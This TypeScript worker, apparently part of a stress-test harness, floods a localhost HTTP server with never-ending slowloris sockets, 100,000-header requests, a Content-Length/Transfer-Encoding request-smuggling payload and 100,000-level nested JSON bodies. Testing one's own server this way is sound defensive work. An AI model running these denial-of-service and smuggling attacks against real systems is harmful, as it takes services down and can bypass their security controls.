/**
 * Attacks a server from a process of its own until it is told to end: sockets whose request never comes to an end, each
 * opened anew when it is cut off, and at a steady rate 100,000 headers, two lengths, and bodies of 100,000 levels.
 */
import { connect, type Socket } from 'node:net';

import type { AttackOrder, AttackReport } from './messages.ts';

const OPENED_PER_TURN = 50;
const TURN_MILLIS = 20;
const LINE_MILLIS = 15_000;

const head = 'POST /api/v1/orders HTTP/1.1\r\nHost: localhost\r\n';
const headers = Array.from({ length: 100_000 }, (_, at) => `x-${at}: 1\r\n`).join('');
const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
const hidden = 'GET /api/v1/users HTTP/1.1\r\nHost: localhost\r\n\r\n';

const slow = new Set<Socket>();
let hostile = 0;
let isOn = true;

process.on('message', (message: AttackOrder | 'end') => {
  if (message === 'end') return end();
  process.send?.('begun');
  keepSlow(message);
  sendHostile(message);
});

/** Keeps so many requests under way that never end. */
function keepSlow(order: AttackOrder): void {
  for (let left = OPENED_PER_TURN; left > 0 && slow.size < order.slowSockets; left -= 1) {
    const line = connect(order.port, '127.0.0.1', () => line.write(`${head}x-slow: `));
    slow.add(line);
    line.on('data', () => {});
    line.on('error', () => line.destroy());
    line.on('close', () => slow.delete(line));
  }
  if (isOn) setTimeout(() => keepSlow(order), TURN_MILLIS);
}

function sendHostile(order: AttackOrder): void {
  const json = `${head}Authorization: Bearer ${order.token}\r\nContent-Type: application/json\r\n`;
  const kinds = [
    `${head}${headers}\r\n`,
    `${head}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${hidden}`,
    `${json}Content-Length: ${deep.length}\r\n\r\n${deep}`,
  ];
  const bytes = kinds[hostile % kinds.length] ?? '';
  const line = connect(order.port, '127.0.0.1', () => line.end(bytes));
  line.setTimeout(LINE_MILLIS, () => line.destroy());
  line.on('data', () => {});
  line.on('error', () => line.destroy());
  hostile += 1;
  if (isOn) setTimeout(() => sendHostile(order), 1_000 / order.hostilePerSecond);
}

function end(): void {
  isOn = false;
  const report: AttackReport = { slowSockets: slow.size, hostile };
  process.send?.(report);
  for (const line of slow) line.destroy();
}
